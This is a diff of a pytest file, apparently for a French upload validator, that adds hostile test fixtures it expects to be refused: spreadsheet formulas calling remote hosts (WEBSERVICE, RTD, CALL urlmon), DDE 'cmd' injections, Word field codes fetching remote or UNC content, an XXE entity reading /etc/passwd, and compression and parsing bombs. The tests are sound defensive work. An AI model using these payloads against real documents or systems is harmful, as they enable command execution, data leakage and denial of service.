@@ -3,16 +3,20 @@
 from __future__ import annotations
 
 import io
-import re
+import resource
+import sys
+import time
 import zipfile
+import zlib
+from collections.abc import Callable
 from pathlib import Path
 
-import pikepdf
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from fce.echanges.erreurs import PieceRefusee
+from fce.echanges.pieces import controles
 from fce.echanges.pieces.genres import GENRES_PIECE, genre_de, verifier_piece
 from tests.echanges.interactions.fabrique import png
 from tests.echanges.pieces import fabrique as p
@@ -29,12 +33,39 @@ BONNES = {
     "note.odt": p.odf("text"),
 }
 BOMBE = p.avec(p.xlsx(), {"xl/worksheets/sheet9.xml": b"<a>" + b" " * (40 << 20) + b"</a>"})
+FORMULES_ACTIVES = (
+    '=IMAGE("https://ailleurs.example/x.png")',
+    '=_xlfn.IMAGE("https://ailleurs.example/x.png")',
+    '=RTD("prog.id";;"x")',
+    '=WEBSERVICE("https://ailleurs.example/"&A1)',
+    '=SUM(A1;WEBSERVICE("https://ailleurs.example/"))',
+    '=HYPERLINK("file://serveur/partage","voir")',
+    "='https://ailleurs.example/[x.xlsx]F'!A1",
+    '=\'a"\'!A1+WEBSERVICE("https://ailleurs.example/")',
+    "=STOCKHISTORY(A1)",
+    '=CALL("urlmon";"URLDownloadToFileA")',
+)
+_CHAMPS = (
+    '<w:instrText> INCLUDEPICTURE "https://ailleurs.example/x.png" \\d</w:instrText>',
+    '<w:instrText> includetext "file://serveur/x.docx"</w:instrText>',
+    "<w:instrText> IM</w:instrText><w:instrText>PORT x</w:instrText>",
+    '<w:instrText> LINK Excel.Sheet.8 "x.xlsx"</w:instrText>',
+    '<w:instrText> IF </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "x"</w:instrText>'
+    '<w:fldChar w:fldCharType="end"/><w:instrText> = 1</w:instrText>',
+)
+_DEBUT, _FIN = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
+CHAMPS_ACTIFS = [*(f"{_DEBUT}{texte}{_FIN}" for texte in _CHAMPS), f"{_DEBUT}{_CHAMPS[0]}"]
+ADMISES = {
+    "tableau.xlsx": p.xlsx("=IF(SUM(A1:A2)>2,\"voir (x)\",_xlfn.XLOOKUP(A1,'Feuille (2)'!A:A,A:A))"),
+    "note.docx": p.docx(
+        '<w:fldChar w:fldCharType="begin"/><w:instrText xml:space="preserve"> TOC \\o "1-3" \\h </w:instrText>'
+        '<w:fldChar w:fldCharType="separate"/><w:fldSimple w:instr=" PAGE "/><w:fldChar w:fldCharType="end"/>'
+    ),
+    "liste.csv": b"nom;telephone;solde\n-Dupont;+33 1 02 03 04 05;=1+1\n@contact;-12,5;=A1\n",
+    "tableau.ods": p.odf(corps='<table:table-cell table:formula="of:=SUM([.A1:.A2])"/>'),
+}
 DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
 HTML = b"<html><script>alert(1)</script></html>"
-
-
-def page_cachee(octets: bytes) -> bytes:
-    return octets.replace(b"%%EOF", HTML + b"\n%%EOF", 1)
 
 
 MAUVAISES = {
@@ -54,28 +85,9 @@ MAUVAISES = {
     "faux.ods": p.odf("text"),
     "faux.docx": p.xlsx(),
     "faux.csv": b"MZ\x90\0\x03",
-    "page.csv": b"nom;texte\n1;<script>alert(1)</script>\n",
     "appel.csv": b"nom;valeur\n1;=cmd|'/C calc'!A0\n",
     "appel-cite.csv": b"nom;valeur\n1;\"=cmd|'/C calc'!A0\"\n",
-    "coupe.pdf": p.pdf()[:-20],
-    "polyglotte.pdf": page_cachee(p.pdf()),
     "avant.pdf": HTML + p.pdf(),
-    "javascript.pdf": p.pdf(p.pdf_javascript),
-    "javascript-clair.pdf": p.pdf(p.pdf_javascript, object_stream_mode=pikepdf.ObjectStreamMode.disable),
-    "javascript-code.pdf": re.sub(
-        rb"/JavaScript", b"/J#61vaScript", p.pdf(p.pdf_javascript, object_stream_mode=pikepdf.ObjectStreamMode.disable)
-    ),
-    "lancement.pdf": p.pdf(p.pdf_lancement),
-    "piece.pdf": p.pdf(p.pdf_piece),
-    "chiffre.pdf": p.pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
-    "archive.pdf": p.pdf() + p.archive({"x": b"y"}),
-    "demesuree.png": png(30_000, 30_000),
-    "demesuree.jpg": p.jpeg(30_000, 30_000),
-    "suite.png": png(suite=b"<html>"),
-    "archive.png": png() + p.archive({"x": b"y"}),
-    "coupee.png": png()[:-8],
-    "coupee.jpg": p.jpeg()[:-2],
-    "page.jpg": p.jpeg() + HTML,
     "macro.xlsx": p.avec(p.xlsx(), {"xl/vbaProject.bin": b"x"}),
     "lien.xlsx": p.avec(p.xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
     "dde.xlsx": p.xlsx("=cmd|'/C calc'!A0"),
@@ -98,6 +110,25 @@ MAUVAISES = {
     "basic.ods": p.odf(**{"Basic/Standard/Module1.xml": b"<a/>"}),
     "dde.ods": p.odf(corps='<office:dde-source office:dde-application="cmd"/>'),
     "image.odt": p.odf("text", corps='<draw:image xlink:href="https://ailleurs.example/x.png"/>'),
+    **{f"a9-{n}.xlsx": p.xlsx(formule) for n, formule in enumerate(FORMULES_ACTIVES)},
+    **{f"a9-{n}.csv": f"nom;valeur\n1;{formule}\n".encode() for n, formule in enumerate(FORMULES_ACTIVES)},
+    **{f"a9-champ-{n}.docx": p.docx(champ) for n, champ in enumerate(CHAMPS_ACTIFS)},
+    "a9-fonction-traduite.csv": b'nom;valeur\n1;=SERVICEWEB("https://ailleurs.example/")\n',
+    "a9-sur-deux-lignes.csv": b'nom;valeur\n1;"=1+\nRTD(""x"";;""y"")"\n',
+    "a9-virgule.csv": b"nom,valeur\n1,@IMAGE(A1)\n",
+    "a9-nom-defini.xlsx": p.avec_nom_defini('WEBSERVICE("https://ailleurs.example/"&Sheet!A1)'),
+    "a9-altchunk.docx": p.docx('<w:altChunk r:id="r1" xmlns:r="r"/>'),
+    "a9-altchunk-lien.docx": p.docx(relations=p.relation("aFChunk", "afchunk.htm")),
+    "a9-unc.docx": p.docx(relations=p.relation("hyperlink", r"\\\\serveur\\partage\\x")),
+    "a9-unc-ecrit.docx": p.docx(r'<w:fldSimple w:instr="HYPERLINK &quot;\\\\serveur\\partage&quot;"/>'),
+    "a9-fichier.docx": p.docx(r'<w:fldSimple w:instr="HYPERLINK &quot;file://serveur/partage&quot;"/>'),
+    "a9-interne-qui-sort.docx": p.docx(relations=p.relation("image", "file://serveur/x.png", "Internal")),
+    "a9-vml.docx": p.docx('<w:pict><v:imagedata xmlns:v="v" src="//ailleurs.example/x.png"/></w:pict>'),
+    "a9-cadre.odt": p.odf("text", corps='<draw:floating-frame xlink:href="https://ailleurs.example/"/>'),
+    "a9-unc.odt": p.odf("text", corps=r'<text:a xlink:href="file://serveur/partage">x</text:a>'),
+    "a9-image.ods": p.odf(corps="<table:table-cell table:formula='of:=IMAGE(&quot;https://ailleurs.example/&quot;)'/>"),
+    "a9-partie.docx": p.avec(p.docx(), {"word/afchunk.htm": b"<html/>"}),
+    "a9-inconnue.xlsx": p.avec(p.xlsx(), {"xl/webextensions/webextension1.xml": b"<a/>"}),
     "formule.ods": p.odf(corps="<table:table-cell table:formula=\"of:=DDE('cmd';'x';'y')\"/>"),
 }
 
@@ -105,6 +136,11 @@ MAUVAISES = {
 @pytest.mark.parametrize("nom", BONNES)
 def test_upl_01_a_file_of_an_accepted_kind_is_taken_under_its_real_type(nom: str, tmp_path: Path) -> None:
     assert verifier_piece(p.poser(tmp_path, nom, BONNES[nom]), nom) == genre_de(nom).type_reel
+
+
+@pytest.mark.parametrize("nom", ADMISES)
+def test_a9_formulas_and_fields_that_compute_from_the_document_stay(nom: str, tmp_path: Path) -> None:
+    verifier_piece(p.poser(tmp_path, nom, ADMISES[nom]), nom)
 
 
 @pytest.mark.parametrize("nom", MAUVAISES)
@@ -125,10 +161,10 @@ def test_upl_01_whatever_the_bytes_the_answer_is_yes_or_a_refusal(
         verifier_piece(chemin, f"x{extension}")
     except PieceRefusee:
         return
-    assert extension == ".csv"
+    assert not genre_de(f"x{extension}").controle or extension == ".csv"
 
 
-@pytest.mark.parametrize("nom", ["tableau.xlsx", "note.odt", "rapport.pdf"])
+@pytest.mark.parametrize("nom", ["tableau.xlsx", "note.odt"])
 def test_upl_03_a_damaged_file_is_refused_and_breaks_nothing(nom: str, tmp_path: Path) -> None:
     octets = BONNES[nom]
     for coupe in range(0, len(octets) - 30, max(1, len(octets) // 25)):
@@ -136,14 +172,43 @@ def test_upl_03_a_damaged_file_is_refused_and_breaks_nothing(nom: str, tmp_path:
             verifier_piece(p.poser(tmp_path, nom, octets[:coupe]), nom)
 
 
-def test_upl_03_a_pdf_that_swells_is_refused_before_it_fills_the_memory(tmp_path: Path) -> None:
-    def gonfler(document: pikepdf.Pdf) -> None:
-        document.Root.Gros = document.make_stream(b"0" * (80 << 20))
+def pdf_aux_mille_flux() -> bytes:
+    """Compressed parts that all begin and none of which is one: each costs a walker the rest of the file."""
+    return b"%PDF-1.7\n" + b"stream\n\x78\x9c" * 23_000 + zlib.compress(b"0" * (60 << 20)) + b"startxref\n0\n%%EOF"
 
-    octets = p.pdf(gonfler, compress_streams=True)
-    assert len(octets) < 1 << 20
-    with pytest.raises(PieceRefusee, match="se dilate"):
-        verifier_piece(p.poser(tmp_path, "x.pdf", octets), "x.pdf")
+
+def docx_aux_balises_sans_fin() -> bytes:
+    corps = "".join(f'<w:t a="{n * 7919 % 99991}"/>' for n in range(2_500_000))
+    return p.avec(p.docx(), {f"word/header{n}.xml": f"<a>{corps}</a>".encode() for n in range(2)})
+
+
+@pytest.mark.epreuve
+@pytest.mark.processus_borne
+@pytest.mark.parametrize(
+    ("nom", "fabriquer"),
+    [
+        ("rapport.pdf", pdf_aux_mille_flux),
+        ("note.docx", docx_aux_balises_sans_fin),
+        ("champs.docx", lambda: p.docx("<w:instrText>" + "DDE " * 2_000_000 + "</w:instrText>")),
+        ("formules.xlsx", lambda: p.xlsx("=" + "'" * 30_000)),
+        ("cellules.csv", lambda: b"=" + b"A" * (9 << 20)),
+    ],
+)
+def test_a9_an_attack_costs_a_few_seconds_of_a_child_and_nothing_of_the_server(
+    nom: str, fabriquer: Callable[[], bytes], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    chemin = p.poser(tmp_path, nom, fabriquer())
+    ici, fils = time.process_time(), resource.getrusage(resource.RUSAGE_CHILDREN)
+    try:
+        dit = verifier_piece(chemin, nom)
+    except PieceRefusee as refus:
+        dit = refus.message
+    ici, apres = time.process_time() - ici, resource.getrusage(resource.RUSAGE_CHILDREN)
+    du_fils = apres.ru_utime + apres.ru_stime - fils.ru_utime - fils.ru_stime
+    with capsys.disabled():
+        sys.stdout.write(f"\n{nom} : {chemin.stat().st_size} octets, {ici:.2f} s ici, {du_fils:.1f} s au fils\n{dit}\n")
+    assert ici < 1
+    assert du_fils < controles.BORNES.processeur + 3
 
 
 def test_the_bomb_of_these_tests_is_one() -> None:
